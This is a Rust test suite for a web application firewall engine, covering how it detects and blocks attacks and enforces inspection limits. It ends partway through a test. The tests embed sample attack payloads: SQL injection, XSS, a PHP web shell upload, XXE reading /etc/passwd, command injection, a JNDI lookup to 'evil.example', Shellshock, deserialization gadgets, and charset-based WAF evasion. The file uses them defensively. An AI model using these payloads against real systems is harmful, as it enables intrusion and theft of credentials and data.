//! Engine behaviour through the public API: locations, phases, modes,
//! exclusions, allowed IPs, block pages, and every inspection limit under
//! hostile input (10 MB bodies, 100k parameters, 10k-deep JSON, invalid
//! UTF-8, decompression bombs).
// Test and benchmark code: a failed setup step is a failed run.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write;
use std::sync::Arc;

use bytes::Bytes;
use moat_core::{
    Body, BodyNeed, DecodeLimits, EventAction, RequestBodyPhase, RequestCtx, RequestHeadersPhase,
    Verdict,
};
use moat_waf::{
    Attack, BodyView, OnLimit, RequestView, WafConfig, WafEngine, WafExclusion, WafMode, WafRoute,
};

fn engine(cfg: &WafConfig) -> Arc<WafEngine> {
    WafEngine::build(cfg).expect("valid config")
}

fn parts(method: &str, uri: &str, headers: &[(&str, &str)]) -> http::request::Parts {
    let mut b = http::Request::builder().method(method).uri(uri);
    for (n, v) in headers {
        b = b.header(*n, *v);
    }
    b.body(()).expect("request").into_parts().0
}

fn body(data: Vec<u8>, enc: Option<&str>, truncated: bool) -> Body {
    Body::new(
        Bytes::from(data),
        enc.map(String::from),
        truncated,
        DecodeLimits::default(),
    )
}

fn attacks(f: &moat_waf::Findings) -> Vec<(Attack, String)> {
    f.findings
        .iter()
        .map(|x| (x.attack, x.location.clone()))
        .collect()
}

#[test]
fn locations_are_named() {
    let e = engine(&WafConfig::default());
    let p = parts(
        "POST",
        "/items/1?id=1%27%20OR%20%271%27=%271&ok=fine",
        &[
            ("content-type", "application/json"),
            ("user-agent", "${jndi:ldap://evil.example/a}"),
            ("cookie", "session=abc; pref=<script>alert(1)</script>"),
        ],
    );
    let v = RequestView::from_parts(&p);
    let b = br#"{"user":{"name":"x' UNION SELECT password FROM users--","age":3},"tags":["a","../../../etc/passwd"]}"#;
    let f = e.inspect(
        "r",
        &v,
        Some(BodyView {
            data: b,
            truncated: false,
        }),
    );
    let got = attacks(&f);
    for want in [
        (Attack::Sqli, "query:id"),
        (Attack::Jndi, "header:user-agent"),
        (Attack::Xss, "cookie:pref"),
        (Attack::Sqli, "json:/user/name"),
        (Attack::PathTraversal, "json:/tags/1"),
    ] {
        assert!(
            got.iter().any(|(a, l)| *a == want.0 && l == want.1),
            "missing {want:?} in {got:?}"
        );
    }
    assert!(!got.iter().any(|(_, l)| l == "query:ok"));
    let top = f.strongest(60).expect("a blocking finding");
    assert!(top.confidence >= 60 && !top.fragment.is_empty());
}

#[test]
fn multipart_xml_and_form_bodies() {
    let e = engine(&WafConfig::default());
    let mp = b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n<img src=x onerror=alert(1)>\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n";
    let p = parts(
        "POST",
        "/up",
        &[("content-type", "multipart/form-data; boundary=XyZ")],
    );
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: mp,
            truncated: false,
        }),
    );
    let got = attacks(&f);
    assert!(
        got.contains(&(Attack::Xss, "multipart:title".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&(Attack::Upload, "filename:file".into())),
        "{got:?}"
    );

    let xml = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><q>1</q></r>";
    let p = parts("POST", "/x", &[("content-type", "application/xml")]);
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: xml,
            truncated: false,
        }),
    );
    assert!(attacks(&f).iter().any(|(a, _)| *a == Attack::Xxe), "{f:?}");

    let form = b"q=hello&cmd=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd";
    let p = parts(
        "POST",
        "/f",
        &[("content-type", "application/x-www-form-urlencoded")],
    );
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: form,
            truncated: false,
        }),
    );
    assert!(
        attacks(&f).contains(&(Attack::Cmdi, "form:cmd".into())),
        "{f:?}"
    );
}

#[test]
fn benign_requests_pass() {
    let e = engine(&WafConfig::default());
    let p = parts(
        "POST",
        "/api/search?q=O%27Reilly+books&sort=price&page=2",
        &[
            ("content-type", "application/json"),
            (
                "referer",
                "https://shop.example.com/search?q=union+was+a+great+select",
            ),
            (
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            ),
        ],
    );
    let b = br#"{"comment":"I'd like to select one from the list, please; it's 5 o'clock","html":"<p>Hello <b>world</b></p>","n":[1,2,3]}"#;
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: b,
            truncated: false,
        }),
    );
    assert!(!e.would_block(&f), "{f:?}");
}

#[test]
fn header_phase_blocks_with_page_and_event() {
    let e = engine(&WafConfig::default());
    let mut ctx = RequestCtx::for_test("shop");
    let mut p = parts(
        "GET",
        "/p?id=1%20UNION%20SELECT%20password%20FROM%20users",
        &[("accept", "application/json")],
    );
    let v = e.on_request_headers(&mut ctx, &mut p);
    let Verdict::Respond(reply) = v else {
        panic!("expected a block");
    };
    assert_eq!(reply.status, http::StatusCode::FORBIDDEN);
    let page: serde_json::Value = serde_json::from_slice(&reply.body).expect("json page");
    let ev = ctx
        .events
        .iter()
        .find(|e| e.action == EventAction::Block)
        .expect("block event");
    assert_eq!(page["event_id"], ev.id.as_str());
    assert_eq!(ev.engine, "waf");
    assert_eq!(ev.rule, "sqli");
    assert_eq!(ev.location.as_deref(), Some("query:id"));
    assert!(ev.details["confidence"].as_u64().is_some_and(|c| c >= 60));

    // HTML page by default
    let mut ctx = RequestCtx::for_test("shop");
    let mut p = parts("GET", "/p?x=%3Cscript%3Ealert(1)%3C/script%3E", &[]);
    let Verdict::Respond(reply) = e.on_request_headers(&mut ctx, &mut p) else {
        panic!("expected a block");
    };
    assert!(std::str::from_utf8(&reply.body)
        .unwrap_or("")
        .contains(&ctx.events[0].id));
}

#[test]
fn monitor_mode_routes_status_allowed_ips_and_exclusions() {
    let mut cfg = WafConfig {
        status: 406,
        ..Default::default()
    };
    cfg.routes.insert(
        "audit".into(),
        WafRoute {
            mode: Some(WafMode::Monitor),
            ..Default::default()
        },
    );
    cfg.routes.insert(
        "off".into(),
        WafRoute {
            enabled: Some(false),
            ..Default::default()
        },
    );
    cfg.allowed_ips = vec!["10.1.0.0/16".into()];
    cfg.exclusions = vec![WafExclusion {
        route: Some("cms".into()),
        location: Some("query:html*".into()),
        detector: Some("xss".into()),
        ..Default::default()
    }];
    let e = engine(&cfg);
    let uri = "/p?html=%3Cscript%3Ealert(1)%3C/script%3E";

    let mut ctx = RequestCtx::for_test("shop");
    let v = e.on_request_headers(&mut ctx, &mut parts("GET", uri, &[]));
    assert!(matches!(v, Verdict::Respond(ref r) if r.status.as_u16() == 406));

    let mut ctx = RequestCtx::for_test("audit");
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut parts("GET", uri, &[])),
        Verdict::Continue
    ));
    assert_eq!(ctx.events.len(), 1);
    assert_eq!(ctx.events[0].action, EventAction::Monitor);

    let mut ctx = RequestCtx::for_test("off");
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut parts("GET", uri, &[])),
        Verdict::Continue
    ));
    assert!(ctx.events.is_empty());

    let mut ctx = RequestCtx::for_test("shop");
    ctx.client_ip = "10.1.2.3".parse().expect("ip");
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut parts("GET", uri, &[])),
        Verdict::Continue
    ));
    assert!(ctx.events.is_empty());

    let mut ctx = RequestCtx::for_test("cms");
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut parts("GET", uri, &[])),
        Verdict::Continue
    ));
    // the same payload in another parameter is still blocked on that route
    let mut ctx = RequestCtx::for_test("cms");
    let other = "/p?x=%3Cscript%3Ealert(1)%3C/script%3E";
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut parts("GET", other, &[])),
        Verdict::Respond(_)
    ));

    // ctx.monitor_only forces monitor
    let mut ctx = RequestCtx::for_test("shop");
    ctx.monitor_only = true;
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut parts("GET", uri, &[])),
        Verdict::Continue
    ));
    assert_eq!(ctx.events[0].action, EventAction::Monitor);
}

#[test]
fn scanner_user_agent_is_monitored_not_blocked() {
    let e = engine(&WafConfig::default());
    let mut ctx = RequestCtx::for_test("r");
    let mut p = parts(
        "GET",
        "/",
        &[("user-agent", "sqlmap/1.7.4#stable (https://sqlmap.org)")],
    );
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut p),
        Verdict::Continue
    ));
    assert_eq!(ctx.events.len(), 1);
    assert_eq!(ctx.events[0].rule, "scanner");
    assert_eq!(ctx.events[0].action, EventAction::Monitor);
}

#[test]
fn body_phase_buffers_documents_and_text_declared_binary() {
    let e = engine(&WafConfig::default());
    let ctx = RequestCtx::for_test("r");
    let need = |fields: &[(&str, &str)]| e.body_need(&ctx, &parts("POST", "/", fields));
    assert_eq!(
        need(&[
            ("content-type", "application/json"),
            ("content-length", "10")
        ]),
        BodyNeed::Buffer(1 << 20)
    );
    // Declared binary: buffered only if its first bytes are text (the proxy looks)...
    assert_eq!(
        need(&[("content-type", "image/png"), ("content-length", "10")]),
        BodyNeed::BufferText(1 << 20)
    );
    // ... which shows only once an encoded body is decoded.
    assert_eq!(
        need(&[
            ("content-type", "application/octet-stream"),
            ("content-encoding", "gzip")
        ]),
        BodyNeed::Buffer(1 << 20)
    );
    // gRPC and protobuf streams are never held back.
    assert_eq!(
        need(&[("content-type", "application/grpc")]),
        BodyNeed::None
    );
}

#[test]
fn a_body_declared_binary_is_inspected_when_it_is_text() {
    // Whichever engine had it buffered: a text body under a binary type is read as an
    // untyped one, a binary one (even over the limit) is left alone.
    let e = engine(&WafConfig::default());
    let attack = br#"{"q": "1' UNION SELECT username, password FROM users--"}"#;
    for ct in ["application/octet-stream", "image/jpeg"] {
        let (v, ctx) = run_body(&e, ct, &mut body(attack.to_vec(), None, false));
        assert!(matches!(v, Verdict::Respond(_)), "{ct}");
        assert!(ctx.events.iter().any(|x| x.action == EventAction::Block));
        // UTF-16 and UTF-32 without a byte order mark, which Python's `json.loads` reads.
        let text = std::str::from_utf8(attack).unwrap();
        let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let utf32: Vec<u8> = text
            .chars()
            .flat_map(|c| u32::from(c).to_be_bytes())
            .collect();
        for wide in [utf16, utf32] {
            let (v, _) = run_body(&e, ct, &mut body(wide, None, false));
            assert!(matches!(v, Verdict::Respond(_)), "{ct}");
        }
        let binary = [&b"\xff\xd8\xff\xe0\x00\x10JFIF"[..], attack].concat();
        let (v, ctx) = run_body(&e, ct, &mut body(binary, None, true));
        assert!(matches!(v, Verdict::Continue), "{ct}");
        assert!(ctx.events.is_empty(), "{:?}", ctx.events);
    }
    let gzipped = {
        let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(attack).unwrap();
        z.finish().unwrap()
    };
    let (v, _) = run_body(
        &e,
        "application/octet-stream",
        &mut body(gzipped, Some("gzip"), false),
    );
    assert!(matches!(v, Verdict::Respond(_)));
    // A gRPC message is not read, whatever it carries.
    let (v, _) = run_body(
        &e,
        "application/grpc",
        &mut body(attack.to_vec(), None, false),
    );
    assert!(matches!(v, Verdict::Continue));
}

fn limit_cfg(on_limit: OnLimit) -> WafConfig {
    let mut c = WafConfig::default();
    c.limits.on_limit = on_limit;
    c
}

fn run_body(e: &WafEngine, ct: &str, b: &mut Body) -> (Verdict, RequestCtx) {
    let mut ctx = RequestCtx::for_test("r");
    let mut p = parts("POST", "/", &[("content-type", ct)]);
    let v = e.on_request_body(&mut ctx, &mut p, b);
    (v, ctx)
}

#[test]
fn ten_megabyte_body_hits_the_body_limit() {
    // the proxy buffers max_body_bytes and marks the body truncated
    let data = vec![b'a'; 1 << 20];
    for (mode, blocked) in [(OnLimit::Block, true), (OnLimit::Forward, false)] {
        let e = engine(&limit_cfg(mode));
        let mut b = body(data.clone(), None, true);
        let (v, ctx) = run_body(&e, "text/plain", &mut b);
        assert_eq!(matches!(v, Verdict::Respond(_)), blocked);
        let ev = ctx
            .events
            .iter()
            .find(|x| x.rule == "limit")
            .expect("limit event");
        assert_eq!(
            ev.action,
            if blocked {
                EventAction::Block
            } else {
                EventAction::Bypass
            }
        );
        assert_eq!(ev.details["limit"], "max_body_bytes");
    }
    // inspect() itself on a full 10 MB value: bounded, no panic
    let e = engine(&WafConfig::default());
    let big = vec![b'x'; 10 << 20];
    let p = parts("POST", "/", &[("content-type", "text/plain")]);
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: &big,
            truncated: false,
        }),
    );
    assert!(f.findings.is_empty());
}

/// IBM037 (EBCDIC) encoding of ASCII text: the code page ASP.NET decodes a form in when
/// `charset=ibm037` says so (the table covers the characters used here).
fn ibm037(s: &str) -> Vec<u8> {
    s.bytes()
        .map(|b| match b {
            b'a'..=b'i' => 0x81 + (b - b'a'),
            b'j'..=b'r' => 0x91 + (b - b'j'),
            b's'..=b'z' => 0xA2 + (b - b's'),
            b'0'..=b'9' => 0xF0 + (b - b'0'),
            b' ' => 0x40,
            b'\'' => 0x7D,
            b'-' => 0x60,
            b'=' => 0x7E,
            b'<' => 0x4C,
            b'>' => 0x6E,
            b'(' => 0x4D,
            b')' => 0x5D,
            b'/' => 0x61,
            b'.' => 0x4B,
            b'?' => 0x6F,
            b'"' => 0x7F,
            other => panic!("no IBM037 byte for {other:?} in this table"),
        })
        .collect()
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

fn utf32le(s: &str) -> Vec<u8> {
    s.chars().flat_map(|c| (c as u32).to_le_bytes()).collect()
}

/// A body in an encoding the backend reads and the WAF must too: UTF-16 and UTF-32
/// (declared, marked or shown by NULs) are read transcoded; EBCDIC and unknown labels
/// are the `charset` limit, answered per `on_limit`; ASCII-compatible labels change
/// nothing.
#[test]
fn bodies_are_read_in_their_encoding() {
    let sqli = "q=1' union select password from users--";
    let e = engine(&WafConfig::default());
    let verdict = |ct: &str, data: Vec<u8>| {
        let mut b = body(data, None, false);
        let (v, ctx) = run_body(&e, ct, &mut b);
        let rules: Vec<String> = ctx.events.iter().map(|x| x.rule.clone()).collect();
        let limit = ctx
            .events
            .iter()
            .find(|x| x.rule == "limit")
            .map(|x| x.details["limit"].as_str().unwrap_or_default().to_string());
        (matches!(v, Verdict::Respond(_)), rules, limit)
    };
    let form = "application/x-www-form-urlencoded";
    // Transcoded: the attack is found where it is.
    let mut bom16 = vec![0xFF, 0xFE];
    bom16.extend(utf16le(sqli));
    let mut bom32 = vec![0xFF, 0xFE, 0, 0];
    bom32.extend(utf32le("{\"q\":\"<script>alert(1)</script>\"}"));
    for (ct, data, rule) in [
        (format!("{form}; charset=utf-16"), utf16be(sqli), "sqli"),
        (format!("{form}; charset=utf-16"), utf16le(sqli), "sqli"),
        (
            format!("{form}; charset=\"UTF-16LE\""),
            utf16le(sqli),
            "sqli",
        ),
        (form.to_string(), bom16, "sqli"),
        ("application/json".to_string(), bom32, "xss"),
        (
            "application/json".to_string(),
            utf32le("{\"q\":\"1' union select password from users--\"}"),
            "sqli",
        ),
        (
            "text/xml; charset=utf-16".to_string(),
            utf16le("<a><b>1' union select password from users--</b></a>"),
            "sqli",
        ),
        (
            "application/xml".to_string(),
            utf16be("<?xml version=\"1.0\"?><a>1' union select password from users--</a>"),
            "sqli",
        ),
    ] {
        let (blocked, rules, _) = verdict(&ct, data);
        assert!(
            blocked && rules.iter().any(|r| r == rule),
            "{ct}: {rules:?}"
        );
    }
    // Declared UTF-16 on a body that is plain ASCII: a backend ignoring the declaration
    // reads the attack, so it is found.
    let (blocked, rules, _) = verdict(&format!("{form}; charset=utf-16"), sqli.into());
    assert!(blocked && rules.contains(&"sqli".to_string()), "{rules:?}");
    // Unreadable encodings: the charset limit, blocked, or a bypass event when
    // `on_limit: forward`.
    for (ct, data) in [
        (format!("{form}; charset=ibm037"), ibm037(sqli)),
        (
            "text/plain; charset=IBM500".to_string(),
            ibm037("<script>alert(1)</script>"),
        ),
        (format!("{form}; charset=cp1140"), ibm037(sqli)),
        (format!("{form}; charset=no-such-charset"), b"q=1".to_vec()),
        (
            "multipart/form-data; charset=ibm037; boundary=x".to_string(),
            b"--x\r\n".to_vec(),
        ),
        (
            "text/xml".to_string(),
            b"<?xml version=\"1.0\" encoding=\"ebcdic-cp-us\"?><a/>".to_vec(),
        ),
        (
            "application/xml".to_string(),
            ibm037("<?xml version=\"1.0\"?><a/>"),
        ),
    ] {
        let (blocked, _, limit) = verdict(&ct, data.clone());
        assert!(blocked, "{ct}");
        assert_eq!(limit.as_deref(), Some("charset"), "{ct}");
        let forward = engine(&limit_cfg(OnLimit::Forward));
        let mut b = body(data, None, false);
        let (v, ctx) = run_body(&forward, &ct, &mut b);
        assert!(matches!(v, Verdict::Continue), "{ct}");
        assert!(
            ctx.events
                .iter()
                .any(|x| x.action == EventAction::Bypass && x.details["limit"] == "charset"),
            "{ct}"
        );
    }
    // ASCII-compatible labels, and bodies without any, pass as before.
    for ct in [
        "application/x-www-form-urlencoded; charset=UTF-8",
        "application/x-www-form-urlencoded; charset=ISO-8859-1",
        "application/x-www-form-urlencoded; charset=windows-1251",
        "application/x-www-form-urlencoded; charset=Shift_JIS",
        "application/x-www-form-urlencoded; charset=gbk",
        "application/json; charset=utf8",
        "text/plain",
    ] {
        let (blocked, rules, _) = verdict(ct, b"q=hello&page=2".to_vec());
        assert!(!blocked && rules.is_empty(), "{ct}: {rules:?}");
    }
    let (blocked, rules, _) = verdict(
        "application/json",
        utf16le("{\"name\":\"caf\u{e9}\",\"n\":1}"),
    );
    assert!(!blocked && rules.is_empty(), "{rules:?}");
}

/// A `_charset_` field names the encoding Apache Sling decodes a request's other
/// parameters in (query and body). One the WAF cannot read (EBCDIC, UTF-16, unknown) is
/// the `charset` limit wherever the field is; ASCII-compatible ones, as browsers send,
/// change nothing.
#[test]
fn charset_form_fields_are_read_like_a_declared_charset() {
    let e = engine(&WafConfig::default());
    let limit_of = |ctx: &RequestCtx| {
        ctx.events
            .iter()
            .find(|x| x.rule == "limit")
            .map(|x| x.details["limit"].as_str().unwrap_or_default().to_string())
    };
    let form = "application/x-www-form-urlencoded";
    let mut ebcdic = b"_charset_=ibm037&q=".to_vec();
    ebcdic.extend(ibm037("1' union select password from users--"));
    let multipart = |label: &str| {
        format!(
            "--x\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\n{label}\r\n\
             --x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--x--\r\n"
        )
        .into_bytes()
    };
    for (ct, data) in [
        (form, ebcdic),
        (form, b"q=hello&_charset_=UTF-16".to_vec()),
        (form, b"_charset_=%20cp500%20".to_vec()),
        ("multipart/form-data; boundary=x", multipart("IBM037")),
    ] {
        let mut b = body(data, None, false);
        let (v, ctx) = run_body(&e, ct, &mut b);
        assert!(matches!(v, Verdict::Respond(_)), "{ct}");
        assert_eq!(limit_of(&ctx).as_deref(), Some("charset"), "{ct}");
    }
    let mut ctx = RequestCtx::for_test("r");
    let mut p = parts("GET", "/search?_charset_=ebcdic-cp-us&q=%C1", &[]);
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut p),
        Verdict::Respond(_)
    ));
    assert_eq!(limit_of(&ctx).as_deref(), Some("charset"));
    // What browsers fill the field with passes.
    for (ct, data) in [
        (form, b"_charset_=UTF-8&q=hello".to_vec()),
        (form, b"_charset_=windows-1252&q=caf%E9".to_vec()),
        (form, b"_charset_=&q=hello".to_vec()),
        ("multipart/form-data; boundary=x", multipart("Shift_JIS")),
    ] {
        let mut b = body(data, None, false);
        let (v, ctx) = run_body(&e, ct, &mut b);
        assert!(matches!(v, Verdict::Continue), "{ct}: {:?}", ctx.events);
    }
}

/// Multipart bodies read the ways their parsers differ: each of two `boundary`
/// parameters, the text before the first delimiter and after the last, and each part in
/// its own `charset`.
#[test]
fn multipart_is_read_every_way_a_parser_may_read_it() {
    let sqli = "1' union select password from users--";
    let e = engine(&WafConfig::default());
    let part = |boundary: &str, value: &[u8]| {
        let mut b = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n")
            .into_bytes();
        b.extend_from_slice(value);
        b.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        b
    };
    let check = |ct: &str, data: Vec<u8>| {
        let mut b = body(data, None, false);
        let (v, ctx) = run_body(&e, ct, &mut b);
        let rules: Vec<String> = ctx
            .events
            .iter()
            .map(|x| format!("{} {}", x.rule, x.details))
            .collect();
        (matches!(v, Verdict::Respond(_)), rules)
    };
    // Either boundary of an ambiguous type.
    for used in ["aaa", "bbb"] {
        let (blocked, rules) = check(
            "multipart/form-data; boundary=aaa; boundary=bbb",
            part(used, sqli.as_bytes()),
        );
        assert!(blocked, "boundary {used}: {rules:?}");
    }
    // Preamble and epilogue.
    let mut preamble = format!("{sqli}\r\n").into_bytes();
    preamble.extend(part("b", b"ok"));
    let mut epilogue = part("b", b"ok");
    epilogue.extend_from_slice(sqli.as_bytes());
    for data in [preamble, epilogue] {
        let (blocked, rules) = check("multipart/form-data; boundary=b", data);
        assert!(blocked, "{rules:?}");
    }
    // A part in its own charset: UTF-16 read transcoded, EBCDIC the charset limit.
    let with_type = |boundary: &str, ctype: &str, value: &[u8]| {
        let mut b = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"q\"\r\n\
             Content-Type: {ctype}\r\n\r\n"
        )
        .into_bytes();
        b.extend_from_slice(value);
        b.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        b
    };
    let (blocked, rules) = check(
        "multipart/form-data; boundary=b",
        with_type("b", "text/plain; charset=utf-16le", &utf16le(sqli)),
    );
    assert!(
        blocked && rules.iter().any(|r| r.starts_with("sqli")),
        "{rules:?}"
    );
    let (blocked, rules) = check(
        "multipart/form-data; boundary=b",
        with_type("b", "text/plain; charset=IBM037", &ibm037(sqli)),
    );
    assert!(
        blocked && rules.iter().any(|r| r.contains("charset")),
        "{rules:?}"
    );
    // A browser's form, UTF-8 parts and no text outside them, passes.
    let browser = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    let (blocked, rules) = check(
        &format!("multipart/form-data; boundary={browser}"),
        with_type(browser, "text/plain; charset=UTF-8", b"hello, world"),
    );
    assert!(!blocked && rules.is_empty(), "{rules:?}");
}

#[test]
fn hundred_thousand_parameters_hit_the_param_limit() {
    let mut q = String::from("/?");
    for i in 0..100_000 {
        q.push_str(&format!("p{i}=v&"));
    }
    // http::Uri refuses targets over 64 KiB; raw views (hyper's limit may differ) are checked directly
    for (mode, blocked) in [(OnLimit::Block, true), (OnLimit::Forward, false)] {
        let e = engine(&limit_cfg(mode));
        let v = RequestView {
            method: "GET",
            target: q.as_bytes(),
            headers: Default::default(),
        };
        let f = e.inspect_headers("r", &v);
        assert_eq!(f.limits[0].limit, moat_waf::Limit::MaxParams);
        assert_eq!(e.would_block(&f), blocked);
    }
    // through the phase with a query under the URI limit and a small max_params
    let mut c = WafConfig::default();
    c.limits.max_params = 100; // nested field: no struct-update form
    let e = engine(&c);
    let mut ctx = RequestCtx::for_test("r");
    let mut p = parts("GET", &q[..4000], &[]);
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut p),
        Verdict::Respond(_)
    ));
    assert!(ctx
        .events
        .iter()
        .any(|x| x.details["limit"] == "max_params"));
    // form body too
    let e = engine(&WafConfig::default());
    let form = "a=b&".repeat(100_000);
    let mut b = body(form.into_bytes(), None, false);
    let (v, _) = run_body(&e, "application/x-www-form-urlencoded", &mut b);
    assert!(matches!(v, Verdict::Respond(_)));
}

#[test]
fn deep_json_hits_the_depth_limit() {
    let deep = format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000));
    let objs = format!("{}{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    for doc in [deep, objs] {
        let e = engine(&WafConfig::default());
        let mut b = body(doc.clone().into_bytes(), None, false);
        let (v, ctx) = run_body(&e, "application/json", &mut b);
        assert!(matches!(v, Verdict::Respond(_)));
        assert!(ctx
            .events
            .iter()
            .any(|x| x.details["limit"] == "max_json_depth"));
        let e = engine(&limit_cfg(OnLimit::Forward));
        let mut b = body(doc.into_bytes(), None, false);
        let (v, ctx) = run_body(&e, "application/json", &mut b);
        assert!(matches!(v, Verdict::Continue));
        assert_eq!(ctx.events[0].action, EventAction::Bypass);
    }
    // deep XML too
    let xml = format!("{}x{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
    let e = engine(&WafConfig::default());
    let mut b = body(xml.into_bytes(), None, false);
    let (v, _) = run_body(&e, "application/xml", &mut b);
    assert!(matches!(v, Verdict::Respond(_)));
}

#[test]
fn invalid_utf8_is_inspected_without_panic() {
    let e = engine(&WafConfig::default());
    let mut data = b"{\"a\":\"\xff\xfe\xc0\xaf".to_vec();
    data.extend_from_slice(b"' UNION SELECT password FROM users-- \"}");
    let mut b = body(data, None, false);
    let (v, _) = run_body(&e, "application/json", &mut b);
    assert!(matches!(v, Verdict::Respond(_)));
    // random bytes in every body type: no panic
    let mut x: u64 = 0x9e3779b97f4a7c15;
    let noise: Vec<u8> = (0..64 << 10)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    for ct in [
        "application/json",
        "application/xml",
        "multipart/form-data; boundary=a",
        "application/x-www-form-urlencoded",
        "text/plain",
    ] {
        let mut b = body(noise.clone(), None, false);
        let _ = run_body(&e, ct, &mut b);
    }
}

#[test]
fn unicode_escapes_cut_by_multibyte_characters_do_not_panic() {
    // `\u` followed by fewer than four ASCII bytes before a multi-byte character:
    // the four bytes after `\u` are not a char boundary of the string.
    let e = engine(&WafConfig::default());
    for body_text in [
        "{\"a\":\"\\u00\u{e9}x\"}",
        "{\"a\":\"\\ud83d\\u0\u{e9}\u{e9}\"}",
        "{\"a\":\"\\u\u{1F600}\"}",
        "{\"\\u0\u{e9}\":\"' UNION SELECT password FROM users--\"}",
    ] {
        let mut b = body(body_text.as_bytes().to_vec(), None, false);
        let _ = run_body(&e, "application/json", &mut b);
    }
    // an attack after such an escape is still found
    let mut b = body(
        "{\"a\":\"\\u0\u{e9} ' UNION SELECT password FROM users-- \"}"
            .as_bytes()
            .to_vec(),
        None,
        false,
    );
    let (v, _) = run_body(&e, "application/json", &mut b);
    assert!(matches!(v, Verdict::Respond(_)));
}

#[test]
fn decompression_bomb_is_a_limit_not_an_allocation() {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(&vec![b'a'; 64 << 20]).expect("gzip");
    let bomb = enc.finish().expect("gzip");
    for (mode, blocked) in [(OnLimit::Block, true), (OnLimit::Forward, false)] {
        let e = engine(&limit_cfg(mode));
        let mut b = body(bomb.clone(), Some("gzip"), false);
        let (v, ctx) = run_body(&e, "application/json", &mut b);
        assert_eq!(matches!(v, Verdict::Respond(_)), blocked);
        assert!(ctx
            .events
            .iter()
            .any(|x| x.details["limit"] == "max_decode_output"));
    }
    // a small gzip body is decoded and inspected
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(br#"{"q":"1' OR '1'='1"}"#).expect("gzip");
    let e = engine(&WafConfig::default());
    let mut b = body(enc.finish().expect("gzip"), Some("gzip"), false);
    let (v, ctx) = run_body(&e, "application/json", &mut b);
    assert!(matches!(v, Verdict::Respond(_)));
    assert_eq!(ctx.events[0].location.as_deref(), Some("json:/q"));
}

#[test]
fn config_round_trips_and_rejects_unknown_fields() {
    let yaml = "mode: monitor\nstatus: 429\nroutes:\n  api:\n    mode: block\nexclusions:\n  - route: cms\n    location: \"json:/body/*\"\n    detector: xss\nallowed_ips: [\"10.0.0.0/8\"]\nlimits:\n  max_body_bytes: 2MiB\n  on_limit: forward\n";
    let c: WafConfig =
        moat_config::from_str(std::path::Path::new("waf.yaml"), yaml).expect("valid");
    assert_eq!(c.mode, WafMode::Monitor);
    assert_eq!(c.limits.max_body_bytes, 2 << 20);
    assert_eq!(c.limits.on_limit, OnLimit::Forward);
    assert!(WafEngine::build(&c).is_ok());
    let bad = "mode: block\nlimts: {}\n";
    let err =
        moat_config::from_str::<WafConfig>(std::path::Path::new("waf.yaml"), bad).unwrap_err();
    assert!(err.to_string().contains("limts"), "{err}");
    let json = serde_json::to_string(&c).expect("serialize");
    assert!(json.contains("\"on_limit\":\"forward\""));
}

#[test]
fn deserialization_and_shellshock() {
    let e = engine(&WafConfig::default());
    let p = parts(
        "POST",
        "/api",
        &[
            ("content-type", "application/json"),
            ("user-agent", "() { :; }; /bin/bash -c 'id'"),
        ],
    );
    let b = br#"{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"},"b":{"@type":"Person"},"c":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}"#;
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: b,
            truncated: false,
        }),
    );
    let got = attacks(&f);
    assert!(
        got.contains(&(Attack::Cmdi, "header:user-agent".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&(Attack::CodeInjection, "json:/a/@type".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&(Attack::Deserialization, "json:/c".into())),
        "{got:?}"
    );
    assert!(!got.iter().any(|(_, l)| l == "json:/b/@type"), "{got:?}");
}

#[test]
fn pathological_values_are_handled() {
